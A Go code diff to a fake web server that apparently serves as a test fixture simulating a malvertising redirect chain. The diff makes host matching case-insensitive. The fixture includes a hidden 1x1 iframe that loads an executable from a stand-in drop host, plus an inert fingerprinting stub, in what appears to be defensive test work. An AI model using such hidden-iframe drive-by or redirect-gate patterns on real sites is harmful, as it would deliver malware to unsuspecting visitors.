@@ -22,32 +22,35 @@ import (
 func fakeWeb() http.Handler {
 	mux := http.NewServeMux()
 	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		// Host headers are case-insensitive DNS names: fold before routing
+		// so "NEWS.Example" reaches the same virtual origin.
+		host := strings.ToLower(r.Host)
 		switch {
-		case r.Host == "news.example":
+		case host == "news.example":
 			w.Header().Set("Content-Type", "text/html")
 			fmt.Fprint(w, `<html><h1>Totally normal news site</h1></html>`)
-		case r.Host == "ads.shady" && r.URL.Path == "/click":
+		case host == "ads.shady" && r.URL.Path == "/click":
 			http.Redirect(w, r, "http://seo.shady/go", http.StatusFound)
-		case r.Host == "seo.shady" && r.URL.Path == "/go":
+		case host == "seo.shady" && r.URL.Path == "/go":
 			http.Redirect(w, r, "http://tds.shady/gate", http.StatusFound)
-		case r.Host == "tds.shady" && r.URL.Path == "/gate":
+		case host == "tds.shady" && r.URL.Path == "/gate":
 			http.Redirect(w, r, "http://landing.shady/ek", http.StatusFound)
-		case r.Host == "landing.shady" && r.URL.Path == "/ek":
+		case host == "landing.shady" && r.URL.Path == "/ek":
 			w.Header().Set("Content-Type", "text/html")
 			fmt.Fprint(w, `<html><iframe src="http://drop.shady/p.exe" width=1 height=1></iframe></html>`)
-		case r.Host == "landing.shady" && strings.HasSuffix(r.URL.Path, ".js"):
+		case host == "landing.shady" && strings.HasSuffix(r.URL.Path, ".js"):
 			w.Header().Set("Content-Type", "application/javascript")
 			fmt.Fprint(w, "var plugins=navigator.plugins;/* fingerprinting */")
-		case r.Host == "198.18.76.2":
+		case host == "198.18.76.2":
 			w.Header().Set("Content-Type", "text/plain")
 			fmt.Fprint(w, "ok")
-		case r.Host == "198.18.99.1":
+		case host == "198.18.99.1":
 			w.Header().Set("Content-Type", "text/plain")
 			fmt.Fprint(w, "ok")
-		case r.Host == "drop.shady" && r.URL.Path == "/p.exe":
+		case host == "drop.shady" && r.URL.Path == "/p.exe":
 			w.Header().Set("Content-Type", "application/x-msdownload")
 			fmt.Fprint(w, strings.Repeat("MZ", 4096))
-		case r.Host == "drop.shady":
+		case host == "drop.shady":
 			http.NotFound(w, r) // rotated payload URLs
 		default:
 			http.NotFound(w, r)
